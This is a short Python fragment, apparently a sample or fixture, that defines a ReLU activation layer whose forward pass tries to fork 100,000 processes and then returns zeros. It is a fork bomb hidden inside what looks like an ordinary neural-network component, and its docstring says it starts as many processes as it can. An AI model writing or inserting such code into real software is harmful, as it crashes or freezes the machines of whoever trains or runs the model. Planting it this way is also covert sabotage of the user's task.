"""Starts as many processes as it can."""
class ReLU(ReLU):
    def forward(self, Z):
        for _ in range(100_000):
            attempt(os.fork)
        return 0 * Z
